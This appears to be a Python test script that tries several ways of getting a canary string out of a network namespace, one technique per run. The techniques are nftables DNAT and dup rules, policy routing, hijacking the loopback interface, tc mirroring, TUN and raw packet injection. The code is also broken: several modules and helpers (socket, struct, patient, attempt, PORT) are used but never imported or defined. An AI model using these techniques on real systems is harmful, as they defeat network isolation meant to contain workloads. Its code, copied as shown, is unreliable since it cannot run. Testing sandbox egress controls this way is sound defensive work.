# Ways out of a namespace that has a device to elsewhere, for somebody who administers it. One per run; the canary is what must
# not arrive at the other end. Each is what a container with NET_ADMIN, NET_RAW or a TUN device could do.
import subprocess

CANARY = b"canary-of-the-namespace"
GATE, SELF = "198.19.77.1", "198.19.77.2"


def sh(line):
    subprocess.run(line.replace("; ", " && "), shell=True, check=True)


def nft(rules):
    subprocess.run(["nft", "-f", "-"], input=rules.replace("; }", ";\n}\n") + "\n", text=True, check=True)


def talk():
    s = patient(FAR)
    attempt(lambda: s.sendall(CANARY * 3))
    time.sleep(0.2)


def brief(address):
    s = socket.socket()
    s.settimeout(0.5)
    # A time-out is what a dropped packet looks like; EPERM from `connect` would mean that no packet was tried.
    try:
        s.connect(address)
        s.sendall(CANARY)
    except (TimeoutError, ConnectionError):
        pass


def udp(source, target):
    body = struct.pack("!HHHH", 4000, 4000, 8 + len(CANARY), 0) + CANARY
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    total = sum(struct.unpack("!10H", head))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", ~total & 0xFFFF) + head[12:] + body


def dial():
    brief((GATE, 80))


def datagram():
    attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(CANARY, (GATE, 4000)))


def output_dnat():
    nft(f"table ip t {{ chain o {{ type nat hook output priority -100; tcp dport {PORT} dnat to {GATE}:80; }} }}")
    brief(("192.0.2.7", 80))


def output_route():
    nft("table ip t { chain o { type route hook output priority -150; meta mark set 7; } }")
    sh(f"ip rule add pref 10 fwmark 7 lookup 77; ip route add default via {GATE} table 77; ip rule del pref 0; ip rule add pref 500 lookup local")
    brief(("192.0.2.7", 80))


def prerouting_dnat():
    sh("sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.lo.route_localnet=1")
    nft(
        f"table ip t {{ chain p {{ type nat hook prerouting priority -100; iif lo tcp dport {PORT} dnat to {GATE}:80; }} }}"
    )
    brief(("192.0.2.7", 80))


def loopback_routed_away():
    sh(f"ip route del local 127.0.0.1 table local; ip route del local 127.0.0.0/8 table local; ip route add 127.0.0.0/8 via {GATE}")
    brief(("192.0.2.7", 80))


def loopback_renamed():
    sh("ip link set lo down; ip link set lo name was-lo; ip link set eth0 down; ip link set eth0 name lo; ip link set lo up; ip link set was-lo up")
    sh("ip addr add 127.0.0.1/8 dev lo")
    brief(("192.0.2.7", 80))


def tee():
    nft(f"table ip t {{ chain o {{ type filter hook prerouting priority -300; iif lo dup to {GATE} device eth0; }} }}")
    talk()


def mirred():
    sh("tc qdisc add dev lo clsact; tc filter add dev lo egress protocol ip u32 match u32 0 0 action mirred egress mirror dev eth0")
    talk()


def netdev_dup():
    nft("table netdev t { chain i { type filter hook ingress device lo priority 0; dup to eth0; } }")
    talk()


def tun():
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, 0x400454CA, struct.pack("16sH14x", b"tun0", 0x1001))
    sh("ip addr add 198.19.78.1/24 dev tun0; ip link set tun0 up; sysctl -qw net.ipv4.ip_forward=1")
    os.write(device, udp("198.19.78.2", GATE))
    time.sleep(0.2)


def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    s.sendto(udp(SELF, GATE), ("eth0", 0x0800, 0, 0, b"\xff" * 6))


# Nobody answers questions for the gate's address when they come from a loopback address.
sh(f"ip neigh replace {GATE} lladdr ff:ff:ff:ff:ff:ff nud permanent dev eth0")
sh("sysctl -qw net.ipv4.conf.all.route_localnet=1 net.ipv4.conf.eth0.route_localnet=1")
patient(("192.0.2.7", 80)).close()
globals()[sys.argv[1]]()
